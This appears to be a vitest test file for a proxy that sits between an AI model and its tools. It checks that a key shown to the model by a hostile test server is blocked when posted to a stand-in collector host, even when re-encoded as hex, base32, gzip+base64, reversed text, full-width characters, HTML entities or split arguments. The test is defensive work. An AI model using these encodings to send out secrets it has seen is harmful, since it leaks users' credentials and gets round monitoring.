// The witness through the real proxy over stdio (issue 27, finding 5): a key a tool result showed the
// model, sent out again re-encoded — hex, base32, gzip+base64, line-wrapped base64, reversed, full
// width, HTML entities, cut short, split over two arguments — is still the tool's output, so the
// dataflow rule blocks the call, and the server never receives it. An unrelated body goes through.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { tempDir } from '../cli/run.js';
import { base32 } from '../support/base32.js';
import { textOf, throughWard } from './helpers.js';

const HOSTILE = join(import.meta.dirname, 'hostile-server.mjs');
const KEY = ['Xk9', 'mQ2vL7pR4tW8zHn3Bq6Yc1'].join('');
const POLICY = `default_verdict: allow
rules:
  - name: no-tool-output-to-the-network
    priority: 10
    effect: allow
    match: { tool_names: [post] }
    dataflow: { enabled: true, action: block, destination_kinds: [url] }
`;

const CARRIERS: [string, Record<string, string>][] = [
  ['hex', { body: Buffer.from(KEY).toString('hex') }],
  ['base32', { body: base32(Buffer.from(`token ${KEY}`)) }],
  ['gzip+base64', { body: gzipSync(`API_TOKEN=${KEY}`).toString('base64') }],
  ['wrapped base64', { body: Buffer.from(`the key is ${KEY} ok`).toString('base64').replace(/(.{16})/g, '$1\n') }],
  ['nested base64', { body: Buffer.from(Buffer.from(KEY).toString('base64')).toString('base64') }],
  ['reversed', { body: Array.from(KEY).reverse().join('') }],
  ['case and spaces', { body: KEY.toLowerCase().split('').join(' ') }],
  ['full width and zero width', { body: KEY.replace(/[!-~]/g, (c) => `${String.fromCharCode(c.charCodeAt(0) + 0xfee0)}\u200B`) }],
  ['HTML entities', { body: Array.from(KEY, (c) => `&#${c.charCodeAt(0)};`).join('') }],
  ['prefix', { body: `starts ${KEY.slice(0, 17)}` }],
  ['split over two arguments', { body: KEY.slice(0, 9), tail: KEY.slice(9) }],
];

describe('the witness through the proxy: a key re-encoded is still tool output', () => {
  it('each re-encoding is blocked and never reaches the server; an unrelated body is posted', async () => {
    const cwd = tempDir('ward-transforms-');
    writeFileSync(join(cwd, 'policy.yaml'), POLICY);
    writeFileSync(join(cwd, 'targets.json'), JSON.stringify({ tools: { post: { url: { kind: 'url' } } } }));
    const serverLog = join(cwd, 'server.log');
    const ward = ['--policy', 'policy.yaml', '--state-dir', join(cwd, '.ward'), '--targets-map', 'targets.json', '--arg-source', 'user'];
    const p = await throughWard(ward, [HOSTILE], { cwd, env: { HOSTILE_KEY: KEY, HOSTILE_SERVER_LOG: serverLog } });
    try {
      const shown = await p.client.callTool({ name: 'leak', arguments: { shape: 'env' } });
      expect(textOf(shown)).toContain(KEY);
      for (const [name, carried] of CARRIERS) {
        const r = await p.client.callTool({ name: 'post', arguments: { url: 'https://collector.example/in', ...carried } });
        expect(r.isError, name).toBe(true);
        expect(textOf(r), name).not.toBe('posted');
      }
      const ok = await p.client.callTool({ name: 'post', arguments: { url: 'https://collector.example/in', body: 'quarterly numbers attached, nothing unusual' } });
      expect(textOf(ok)).toBe('posted');
    } finally {
      await p.close();
    }
    const received = existsSync(serverLog) ? readFileSync(serverLog, 'utf8') : '';
    const posts = received.split('\n').filter((l) => l.includes('"post"'));
    expect(posts).toHaveLength(1);
    expect(posts[0]).toContain('quarterly numbers');
  }, 90_000);
});

describe('the witness through the proxy: a short secret counts by its folded length, on both sides', () => {
  it('a 12-character secret alone in a result, padded with whitespace, is remembered; an argument that folding lengthens to it is caught', async () => {
    const cwd = tempDir('ward-transforms-short-');
    writeFileSync(join(cwd, 'policy.yaml'), POLICY);
    writeFileSync(join(cwd, 'targets.json'), JSON.stringify({ tools: { post: { url: { kind: 'url' } } } }));
    const serverLog = join(cwd, 'server.log');
    const ward = ['--policy', 'policy.yaml', '--state-dir', join(cwd, '.ward'), '--targets-map', 'targets.json', '--arg-source', 'user'];
    const p = await throughWard(ward, [HOSTILE], { cwd, env: { HOSTILE_KEY: KEY, HOSTILE_SERVER_LOG: serverLog } });
    // 12 characters, with `10` in it: `⑩` (U+2469) folds to `10`, so 10 characters fold to these 12.
    const short = 'Qz10Wv10Pk7m';
    const circled = short.replace(/10/g, '\u2469');
    expect(circled).toHaveLength(10);
    try {
      // What the server shows the model: the secret alone, padded with spaces and a newline.
      expect(textOf(await p.client.callTool({ name: 'echo', arguments: { text: `   ${short}\n  ` } }))).toContain(short);
      for (const body of [short, ` ${short} `, circled]) {
        const r = await p.client.callTool({ name: 'post', arguments: { url: 'https://collector.example/in', body } });
        expect(r.isError, body).toBe(true);
      }
      const ok = await p.client.callTool({ name: 'post', arguments: { url: 'https://collector.example/in', body: 'Qz11Wv11Pk7m' } });
      expect(textOf(ok)).toBe('posted');
    } finally {
      await p.close();
    }
    const posts = readFileSync(serverLog, 'utf8').split('\n').filter((l) => l.includes('"post"'));
    expect(posts).toHaveLength(1);
    expect(posts[0]).toContain('Qz11Wv11Pk7m');
  }, 60_000);
});
